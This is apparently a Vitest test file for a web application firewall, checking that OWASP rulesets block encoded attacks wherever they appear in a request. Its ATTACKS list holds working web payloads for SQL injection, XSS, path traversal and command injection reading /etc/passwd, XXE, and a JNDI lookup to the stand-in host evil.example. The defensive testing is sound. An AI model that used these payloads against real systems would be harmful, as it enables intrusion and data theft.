import { expect, test } from 'vitest';
import { parseRuleset } from '../../../rules/schema.ts';
import core from '../../../rules/owasp-core.json' with { type: 'json' };
import extended from '../../../rules/owasp-extended.json' with { type: 'json' };
import { compileRuleset } from '../../../src/edge/waf/compile.ts';
import { evaluate } from '../../../src/edge/waf/evaluate.ts';
import { prepareRuleset } from '../../../src/edge/waf/prepare-ruleset.ts';
import { buildRequestView, type RequestParts } from '../../../src/edge/waf/request-view.ts';

const rulesets = [core, extended].map((data) => {
  const parsed = parseRuleset(data);
  if (!parsed.ok) throw new Error(`${data.name} does not parse`);
  return compileRuleset(prepareRuleset(parsed.value));
});

const ATTACKS = {
  sqli: "' or 1=1 -- ",
  xss: '<img src=x onerror=alert(1)>',
  traversal: '../../../../etc/passwd',
  cmdi: '| cat /etc/passwd',
  ssti: '{{7*7}}',
  ldap: '*)(uid=*))(|(uid=*',
  ssi: '<!--#exec cmd="ls" -->',
  nosql: "true, $where: '1 == 1'",
  xxe: '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
  jndi: '${${lower:j}ndi:ldap://evil.example/a}',
  proto: 'constructor.prototype.x=1',
  deserialization: 'O:8:"stdClass":1:{s:1:"a";i:1;}',
};

const hex = (char: string) => char.charCodeAt(0).toString(16);
const ENCODINGS: Record<string, (text: string) => string> = {
  'as it is': (text) => text,
  'in base64': (text) => Buffer.from(text).toString('base64'),
  'in percent escapes': encodeURIComponent,
  'in JavaScript escapes': (text) => text.replace(/./g, (char) => `\\u${hex(char).padStart(4, '0')}`),
  'in character references': (text) => text.replace(/./g, (char) => `&#x${hex(char)};`),
};

const AGENT = ['user-agent', 'Mozilla/5.0'] as const;
const get = (path: string, headers: RequestParts['headers'] = [AGENT]): RequestParts => ({
  method: 'GET',
  url: `https://example.com/${path}`,
  headers,
  body: null,
  bodyTruncated: false,
});
const post = (type: string, body: string): RequestParts => ({
  ...get('', [AGENT, ['content-type', type]]),
  method: 'POST',
  body: Buffer.from(body),
});

const PLACES: Record<string, (text: string) => RequestParts> = {
  'a query': (text) => get(`?a=${encodeURIComponent(text)}`),
  'a path': (text) => get(encodeURIComponent(text)),
  'a header': (text) => get('', [AGENT, ['x-data', text]]),
  'the user agent': (text) => get('', [['user-agent', text]]),
  'a form': (text) => post('application/x-www-form-urlencoded', `a=${encodeURIComponent(text)}`),
  'a part of a body': (text) =>
    post('multipart/form-data; boundary=x', `--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n${text}\r\n--x--`),
  JSON: (text) => post('application/json', JSON.stringify({ a: [text] })),
  XML: (text) => post('text/xml', `<a><b>${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</b></a>`),
  'a bare body': (text) => post('text/plain', text),
  GraphQL: (text) =>
    post('application/json', JSON.stringify({ query: `{ user(name: ${JSON.stringify(text)}) { id } }` })),
  'JSON within a form': (text) =>
    post('application/x-www-form-urlencoded', `data=${encodeURIComponent(JSON.stringify({ key: text }))}`),
};

test.each(Object.entries(ATTACKS))('%s is blocked in every encoding, wherever it stands', (_, attack) => {
  const passed: string[] = [];
  for (const [encoding, encode] of Object.entries(ENCODINGS)) {
    for (const [place, put] of Object.entries(PLACES)) {
      const view = buildRequestView(put(encode(attack)));
      if (!rulesets.some((ruleset) => evaluate(ruleset, view).blocking)) passed.push(`${encoding}, in ${place}`);
    }
  }
  expect(passed).toEqual([]);
});
